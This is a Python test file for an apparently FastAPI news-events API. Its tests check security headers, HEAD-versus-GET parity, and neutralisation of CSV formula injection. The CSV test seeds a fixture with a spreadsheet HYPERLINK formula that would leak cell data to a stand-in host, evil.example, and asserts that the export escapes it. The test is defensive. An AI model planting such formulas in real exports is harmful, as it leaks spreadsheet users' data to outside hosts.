"""Security headers, HEAD wherever GET works, and CSV cells that no spreadsheet runs as formulas."""

from __future__ import annotations

import csv
import io

from fastapi.testclient import TestClient
from sqlalchemy.orm import Session

from tests.factories import add_article, add_event


def test_every_response_carries_security_headers(client: TestClient) -> None:
    for path in ("/v1/events", "/v1/articles/999999999", "/health", "/openapi.json"):
        response = client.get(path)
        assert response.headers["x-content-type-options"] == "nosniff", path
        assert response.headers["x-frame-options"] == "DENY", path
        assert "frame-ancestors 'none'" in response.headers["content-security-policy"], path
        assert "server" not in response.headers, path
    docs = client.get("/docs")
    assert "frame-ancestors 'none'" in docs.headers["content-security-policy"]
    assert "script-src 'self'" in docs.headers["content-security-policy"]


def test_head_answers_like_get_without_a_body(client: TestClient, session: Session) -> None:
    article = add_article(session, text="Rebels shelled the port of Marlo on Tuesday.")
    for path in ("/v1/events", f"/v1/articles/{article.article_id}", "/health", "/v1/articles/999999999"):
        got = client.get(path)
        head = client.head(path)
        assert head.status_code == got.status_code, path
        assert head.content == b"", path
        assert head.headers.get("etag") == got.headers.get("etag"), path
        assert head.headers["content-type"] == got.headers["content-type"], path


def test_csv_cells_that_look_like_formulas_are_neutralised(client: TestClient, session: Session) -> None:
    article = add_article(session, text="Rebels shelled the port of Marlo on Tuesday.")
    add_event(  # ACLED's notes column carries the evidence sentences
        session,
        article,
        quote='=HYPERLINK("http://evil.example/?leak="&A1,"Marlo")',
        location_text="@SUM(1+1)",
    )
    response = client.get("/v1/events", params={"format": "csv", "q": "Marlo"})
    rows = list(csv.DictReader(io.StringIO(response.text)))
    assert len(rows) == 1
    assert rows[0]["notes"] == '\'=HYPERLINK("http://evil.example/?leak="&A1,"Marlo")'
    assert rows[0]["location"] == "'@SUM(1+1)"
    assert all(not cell.startswith(("=", "+", "@")) for cell in rows[0].values())
